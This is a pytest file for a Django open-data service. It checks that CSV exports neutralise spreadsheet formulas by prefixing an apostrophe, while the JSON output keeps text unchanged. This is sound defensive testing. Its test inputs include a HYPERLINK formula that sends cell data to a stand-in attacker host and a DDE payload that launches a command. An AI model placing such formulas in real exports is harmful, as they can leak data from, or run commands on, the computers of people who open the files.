"""Open data CSV: no cell reaches a spreadsheet as a formula (OWASP "CSV Injection"); the JSON
documents keep every text as it is."""

import csv
import io
import json

import pytest

from openmetadata.open_data import neutralised
from tests.factories import ExhibitionFactory, ProgrammeFactory, ToolboxDocumentFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://aanvaller.example/?d="&A1,"Klik hier")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(client, url: str) -> list[dict]:
    response = client.get(url)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def read_json(client, url: str) -> dict:
    response = client.get(url)
    assert response.status_code == 200
    return json.loads(b"".join(response.streaming_content))


@pytest.mark.parametrize("title", FORMULAS)
def test_programme_and_document_titles_are_neutralised_in_the_csv(client, title):
    programme = ProgrammeFactory(published=True, title_nl=title, responsible_unit=title)
    ToolboxDocumentFactory(programme=programme, title_nl=title)

    (row,) = read_csv(client, "/open-data/programmas.csv")
    assert row["title"] == "'" + title
    assert row["responsible_unit"] == "'" + title
    assert row["documents"].startswith("'" + title + " | ")

    (data,) = read_json(client, "/open-data/programmas.json")["programmes"]
    assert data["title"] == title
    assert data["responsible_unit"] == title
    assert data["documents"][0]["title"] == title


@pytest.mark.parametrize("title", FORMULAS)
def test_exhibition_and_programme_titles_are_neutralised_in_the_csv(client, title):
    exhibition = ExhibitionFactory(published=True, title_nl=title, subtitle_nl=title)
    exhibition.related_programmes.add(ProgrammeFactory(published=True, title_nl=title))

    (row,) = read_csv(client, "/open-data/tentoonstellingen.csv")
    assert row["title"] == "'" + title
    assert row["subtitle"] == "'" + title
    assert row["related_programmes"].startswith("'" + title + " | ")

    (data,) = read_json(client, "/open-data/tentoonstellingen.json")["exhibitions"]
    assert data["title"] == title
    assert data["subtitle"] == title
    assert data["related_programmes"][0]["title"] == title


def test_ordinary_cells_and_numbers_are_left_alone():
    assert neutralised("Lokaal bestuur") == "Lokaal bestuur"
    assert neutralised("a = b") == "a = b"
    assert neutralised("") == ""
    assert neutralised(-1965) == -1965
    assert neutralised(None) is None


def test_the_english_csv_too(client):
    ProgrammeFactory(published=True, title_nl="Programma", title_en="=1+1")
    (row,) = read_csv(client, "/en/open-data/programmes.csv")
    assert row["title"] == "'=1+1"
